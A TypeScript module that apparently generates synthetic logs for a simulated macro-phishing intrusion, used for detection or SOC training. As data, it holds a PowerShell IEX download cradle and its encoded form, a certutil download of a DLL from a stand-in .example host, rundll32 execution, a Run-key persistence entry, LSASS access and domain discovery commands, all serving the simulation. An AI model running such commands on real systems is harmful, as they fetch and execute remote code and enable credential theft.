/**
 * Story 2, "phishing-macro": a macro document mailed to mreyes (Finance) opens on WS-003, Word
 * starts an encoded PowerShell download cradle, certutil fetches a DLL that rundll32 runs and
 * persists with a Run key, the implant reads LSASS memory, runs discovery and beacons over TLS
 * to telemetry-sync.example every ~60 s for two hours. Seen in mailguard (LEEF), windows-ws-003
 * (Sysmon/Security), zeek, suricata and edgewall-fw. Times in stories.ts.
 */
import { INTERNAL_DNS, OFFICE_EGRESS_IP, STORY_IPS, userSid, workstationOf } from './entities.ts';
import { ephemeral, newFlow } from './flow.ts';
import { cef, leefMail, trafficExt } from './perimeter.ts';
import type { Rng } from './random.ts';
import { clock, type DayWindow, MINUTE, SECOND } from './schedule.ts';
import { type BuiltStory, finish, storyStart } from './story-kit.ts';
import { beacons, C2_DOMAIN } from './story-phish-c2.ts';
import { alert, dnsAnswer, httpEvent } from './suricata.ts';
import type { Pending } from './types.ts';
import { BIN } from './windows-catalog.ts';
import {
  domainUser,
  newProc,
  stableProc,
  sysmonDns,
  sysmonFileCreate,
  sysmonNetwork,
  sysmonProcessAccess,
  sysmonProcessCreate,
  sysmonRegistrySet,
  type WinProc,
} from './windows-events.ts';
import { type WinEvent, winPending } from './windows-render.ts';
import { sec4688 } from './windows-security.ts';
import { conn, dns, files, http, newFuid } from './zeek.ts';

export const PHISH = {
  user: 'mreyes',
  sender: 'billing@secure-invoices.example',
  subject: 'Overdue invoice INV-20931 - final notice',
  attachment: 'Invoice_INV-20931.docm',
  payloadDomain: 'msupdate-cdn.example',
  c2Domain: C2_DOMAIN,
  cradle: "IEX (New-Object Net.WebClient).DownloadString('http://msupdate-cdn.example/a.ps1')",
} as const;

export const encodedCradle = (): string => Buffer.from(PHISH.cradle, 'utf16le').toString('base64');

const PS_UA = 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.22621.4460';

export function buildPhishing(rng: Rng, window: DayWindow): BuiltStory {
  const ws = workstationOf(PHISH.user);
  const du = domainUser(PHISH.user);
  const sid = userSid(PHISH.user);
  const t0 = storyStart(window, clock(10, 2, 11), 2 * 60 * MINUTE + 35 * MINUTE);
  const win: WinEvent[] = [];
  const net: Pending[] = [];
  const launch = (t: number, p: WinProc, parent: WinProc) =>
    win.push(sysmonProcessCreate(t, p, parent), sec4688(t + 3, p, parent, sid));

  net.push(
    leefMail(t0, {
      id: 'MAIL_DELIVERED',
      src: STORY_IPS.phishMta,
      sender: PHISH.sender,
      recipient: `${PHISH.user}@northwindlabs.co.uk`,
      subject: PHISH.subject,
      attachments: [PHISH.attachment],
      messageId: `<${rng.hex(16)}@secure-invoices.example>`,
      size: 184_233,
      verdict: 'clean',
      sev: 1,
    }),
  );

  const outlook = stableProc(ws, 'outlook', du);
  const saved = t0 + 11 * MINUTE + 54 * SECOND + 212;
  const docPath = `C:\\Users\\${PHISH.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7RZ2M4K\\${PHISH.attachment}`;
  win.push(sysmonFileCreate(saved, outlook, docPath));
  const opened = saved + 14 * SECOND + 87;
  const word = newProc(rng, ws, 'winword', `"${BIN.winword.image}" /n "${docPath}" /o ""`, du);
  launch(opened, word, outlook);

  const psAt = opened + 22 * SECOND + 301;
  const ps = newProc(rng, ws, 'powershell', `powershell.exe -nop -w hidden -enc ${encodedCradle()}`, du);
  launch(psAt, ps, word);
  const payloadIp = STORY_IPS.payloadHost;
  const q1 = psAt + 900;
  win.push(sysmonDns(q1, ps, PHISH.payloadDomain, [payloadIp]));
  const d1 = newFlow(rng, q1, ws.ip, ephemeral(rng), INTERNAL_DNS, 53, 'udp');
  net.push(
    dns(rng, d1, PHISH.payloadDomain, [payloadIp]),
    dnsAnswer(q1 + 3, d1, rng.int(1, 65535), PHISH.payloadDomain, [payloadIp]),
  );
  const getPs1 = q1 + 40;
  const h1 = newFlow(rng, getPs1, ws.ip, ephemeral(rng), payloadIp, 80);
  win.push(
    sysmonNetwork(getPs1 + 5, ps, { ip: ws.ip, port: h1.sport, host: ws.fqdn }, { ip: payloadIp, port: 80 }),
  );
  net.push(
    cef(
      getPs1,
      'allow',
      trafficExt(
        {
          src: ws.ip,
          spt: h1.sport,
          dst: payloadIp,
          dpt: 80,
          proto: 'TCP',
          rule: 'LAN-to-Internet',
          inIf: 'lan1',
          outIf: 'wan1',
          bytesOut: 310,
          bytesIn: 6120,
          natSrc: OFFICE_EGRESS_IP,
        },
        'allow',
      ),
    ),
    conn(h1, {
      service: 'http',
      duration: 0.42,
      origBytes: 310,
      respBytes: 6120,
      state: 'SF',
      history: 'ShADadFf',
    }),
    http(getPs1 + 60, h1, {
      method: 'GET',
      host: PHISH.payloadDomain,
      uri: '/a.ps1',
      userAgent: PS_UA,
      status: 200,
      respLen: 5870,
    }),
    httpEvent(getPs1 + 61, h1, {
      hostname: PHISH.payloadDomain,
      url: '/a.ps1',
      userAgent: PS_UA,
      method: 'GET',
      status: 200,
      length: 5870,
      contentType: 'text/plain',
    }),
    alert(
      getPs1 + 62,
      h1,
      {
        sid: 9200001,
        rev: 1,
        signature: 'NW-LOCAL HUNTING WindowsPowerShell user agent fetching .ps1 from external host',
        category: 'Potentially Bad Traffic',
        severity: 2,
      },
      'http',
    ),
  );

  const certAt = psAt + 21 * SECOND + 640;
  const dll = 'C:\\Users\\Public\\update.dll';
  const cert = newProc(
    rng,
    ws,
    'certutil',
    `certutil.exe -urlcache -split -f http://${PHISH.payloadDomain}/update.dll ${dll}`,
    du,
  );
  launch(certAt, cert, ps);
  const getDll = certAt + 180;
  const h2 = newFlow(rng, getDll, ws.ip, ephemeral(rng), payloadIp, 80);
  const fuid = newFuid(rng);
  win.push(
    sysmonNetwork(
      getDll + 4,
      cert,
      { ip: ws.ip, port: h2.sport, host: ws.fqdn },
      { ip: payloadIp, port: 80 },
    ),
  );
  net.push(
    conn(h2, {
      service: 'http',
      duration: 1.9,
      origBytes: 290,
      respBytes: 318_464,
      state: 'SF',
      history: 'ShADadFf',
    }),
    http(getDll + 70, h2, {
      method: 'GET',
      host: PHISH.payloadDomain,
      uri: '/update.dll',
      userAgent: 'CertUtil URL Agent',
      status: 200,
      respLen: 317_952,
      mime: 'application/x-dosexec',
      fuid,
    }),
    httpEvent(getDll + 71, h2, {
      hostname: PHISH.payloadDomain,
      url: '/update.dll',
      userAgent: 'CertUtil URL Agent',
      method: 'GET',
      status: 200,
      length: 317_952,
      contentType: 'application/x-msdownload',
    }),
    alert(
      getDll + 72,
      h2,
      {
        sid: 9200002,
        rev: 2,
        signature: 'NW-LOCAL POLICY CertUtil URL Agent downloading a PE executable',
        category: 'Potential Corporate Privacy Violation',
        severity: 1,
      },
      'http',
    ),
    files(rng, getDll + 1900, h2, fuid, 'application/x-dosexec', 317_952, 'update.dll'),
  );
  win.push(sysmonFileCreate(getDll + 2100, cert, dll));

  const runAt = certAt + 27 * SECOND + 113;
  const rundll = newProc(
    rng,
    ws,
    'rundll32',
    `"C:\\Windows\\system32\\rundll32.exe" ${dll},DllRegisterServer`,
    du,
  );
  launch(runAt, rundll, ps);
  const runKey = `HKU\\${sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate`;
  win.push(
    sysmonRegistrySet(runAt + 2 * SECOND + 40, rundll, runKey, `rundll32.exe ${dll},DllRegisterServer`),
  );

  // Beaconing over TLS to the C2, about every 60 s with jitter, for about two hours.
  const c2 = STORY_IPS.c2;
  const first = runAt + 29 * SECOND;
  win.push(sysmonDns(first, rundll, PHISH.c2Domain, [c2]));
  const d2 = newFlow(rng, first, ws.ip, ephemeral(rng), INTERNAL_DNS, 53, 'udp');
  net.push(
    dns(rng, d2, PHISH.c2Domain, [c2]),
    dnsAnswer(first + 3, d2, rng.int(1, 65535), PHISH.c2Domain, [c2]),
  );
  const firstBeacon = beacons(rng, ws, first + 60, first + 2 * 60 * MINUTE + 15 * MINUTE, net);
  win.push(
    sysmonNetwork(
      firstBeacon.time + 3,
      rundll,
      { ip: ws.ip, port: firstBeacon.sport, host: ws.fqdn },
      { ip: c2, port: 443 },
    ),
  );

  // Credential access and discovery from the implant.
  const lsassAt = runAt + 6 * MINUTE + 39 * SECOND + 77;
  const lsass = stableProc(ws, 'lsass');
  win.push(
    sysmonProcessAccess(
      lsassAt,
      rundll,
      lsass,
      '0x1010',
      `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(0000024A1F3B2C7D)`,
    ),
  );
  const disco = lsassAt + 2 * MINUTE + 5 * SECOND;
  const commands: [string, keyof typeof BIN, string][] = [
    ['cmd.exe /c whoami /all', 'whoami', 'whoami  /all'],
    ['cmd.exe /c net group "Domain Admins" /domain', 'net', 'net  group "Domain Admins" /domain'],
    ['cmd.exe /c nltest /dclist:northwind.local', 'nltest', 'nltest  /dclist:northwind.local'],
  ];
  commands.forEach(([shellCmd, key, childCmd], i) => {
    const at = disco + i * 41 * SECOND;
    const shell = newProc(rng, ws, 'cmd', `C:\\Windows\\system32\\${shellCmd}`, du);
    launch(at, shell, rundll);
    launch(at + 120, newProc(rng, ws, key, childCmd, du), shell);
  });

  const records = [...win.map(winPending), ...net];
  const winSrc = `windows-${ws.name.toLowerCase()}`;
  return finish(
    {
      id: 'phishing-macro',
      title: 'Macro phishing on WS-003: encoded PowerShell, certutil download, LSASS access, C2 beacon',
      summary: `${PHISH.sender} mails ${PHISH.attachment} to ${PHISH.user}; WINWORD.EXE on ${ws.name} starts powershell.exe -enc, certutil -urlcache downloads update.dll from ${PHISH.payloadDomain}, rundll32 runs it (Run key OneDriveUpdate), reads LSASS, runs whoami/net/nltest and beacons to ${PHISH.c2Domain} (${c2}) every ~60 s.`,
      techniques: [
        'T1566.001',
        'T1204.002',
        'T1059.001',
        'T1027',
        'T1105',
        'T1218.011',
        'T1547.001',
        'T1003.001',
        'T1087.002',
        'T1071.001',
      ],
      hosts: [ws.name],
      users: [PHISH.user],
      ips: [ws.ip, STORY_IPS.phishMta, payloadIp, c2],
      domains: [PHISH.payloadDomain, PHISH.c2Domain, 'secure-invoices.example'],
      steps: [
        {
          time: t0,
          what: `mail from ${PHISH.sender} with ${PHISH.attachment} delivered`,
          sources: ['mailguard'],
        },
        { time: saved, what: 'OUTLOOK.EXE saves the .docm attachment (Sysmon 11)', sources: [winSrc] },
        { time: opened, what: 'WINWORD.EXE opens it', sources: [winSrc] },
        {
          time: psAt,
          what: 'WINWORD.EXE starts powershell.exe -nop -w hidden -enc (Sysmon 1, 4688)',
          sources: [winSrc],
        },
        {
          time: q1,
          what: `DNS ${PHISH.payloadDomain}, GET /a.ps1`,
          sources: [winSrc, 'zeek', 'suricata', 'edgewall-fw'],
        },
        {
          time: certAt,
          what: 'certutil.exe -urlcache -split -f .../update.dll',
          sources: [winSrc, 'zeek', 'suricata'],
        },
        {
          time: runAt,
          what: 'rundll32.exe update.dll,DllRegisterServer; Run key OneDriveUpdate',
          sources: [winSrc],
        },
        {
          time: first,
          what: `first DNS query for ${PHISH.c2Domain}; beaconing starts`,
          sources: [winSrc, 'zeek', 'suricata'],
        },
        { time: lsassAt, what: 'rundll32.exe opens lsass.exe with 0x1010 (Sysmon 10)', sources: [winSrc] },
        {
          time: disco,
          what: 'whoami /all, net group "Domain Admins" /domain, nltest /dclist',
          sources: [winSrc],
        },
      ],
    },
    records,
  );
}
